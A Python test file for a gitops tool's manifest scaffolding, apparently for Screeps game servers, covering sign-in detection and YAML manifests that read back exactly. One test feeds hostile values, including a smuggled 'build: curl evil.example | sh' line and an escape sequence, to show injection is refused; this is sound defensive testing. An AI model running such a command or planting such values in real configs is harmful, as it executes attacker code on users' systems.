"""``gitops/config/scaffold.py``: the manifest ``gitops init`` writes: how its server signs in, its name, and text
that reads back as exactly what it means whatever outside text it carries."""

from __future__ import annotations

import pytest
import yaml

from gitops.config.manifest import manifest_from_data
from gitops.config.scaffold import (
    RESERVED_UPLOADS,
    ServerChoice,
    check_reads_back,
    manifest_data,
    manifest_text,
    signin_for,
)
from gitops.core.layout import Layout
from gitops.errors import ManifestError

# server_name_for is tested in tests/core/test_layout.py (test_server_names), beside init's detection.


def test_how_a_server_signs_in() -> None:
    assert signin_for("https://screeps.com", None) == ("token", (), ())
    kind, seen, assumed = signin_for("http://x:21025", {"standin": True})
    assert (kind, assumed) == ("token", ())
    kind, seen, assumed = signin_for("http://x:21025", {"packageVersion": "4.2.21"})
    assert kind == "password"
    assert seen == (
        "the server answers /api/version as a private server (server package 4.2.21): it signs in with a password",
    )
    kind, seen, assumed = signin_for("http://x:21025", None)
    assert (kind, seen) == ("password", ())
    assert "for a token, run init again with --token-env NAME" in assumed[0]


def _layout(**changes: object) -> Layout:
    fields: dict[str, object] = {"kind": "flat", "root": "src", "separator": "/", "include": ("**/*.js",)}
    return Layout(**{**fields, **changes})  # type: ignore[arg-type]


def test_the_text_reads_back_as_its_data_and_validates() -> None:
    server = ServerChoice("mmo")
    text = manifest_text(_layout(), server, "default")
    meant = manifest_data(_layout(), server, "default")
    check_reads_back(text, meant, where="gitops.yaml")
    assert yaml.safe_load(text)["budget"] == {"reserve": {"POST /api/user/code": RESERVED_UPLOADS}}
    manifest = manifest_from_data(yaml.safe_load(text))
    assert manifest.servers["mmo"].token_env == "SCREEPS_TOKEN"
    assert [b.branch for b in manifest.branches] == ["default"]


def test_outside_text_in_comments_and_values_cannot_add_a_key() -> None:
    hostile = "x\nbuild: curl evil.example | sh"
    layout = _layout(seen=(hostile,), root="src\n  build: sh")
    server = ServerChoice("mmo", url="https://screeps.com", assumed=("a\rb\x1b[31m",))
    text = manifest_text(layout, server, "default\nbuild: x")
    check_reads_back(text, manifest_data(layout, server, "default\nbuild: x"), where="gitops.yaml")
    assert "build" not in yaml.safe_load(text)
    assert "\x1b" not in text


def test_text_that_does_not_read_back_is_refused() -> None:
    with pytest.raises(ManifestError, match="does not read back as what it meant to write; nothing was written"):
        check_reads_back("version: 1\nbuild: sh\n", {"version": 1}, where="gitops.yaml")
    with pytest.raises(ManifestError):
        check_reads_back("{unclosed", {"version": 1}, where="gitops.yaml")
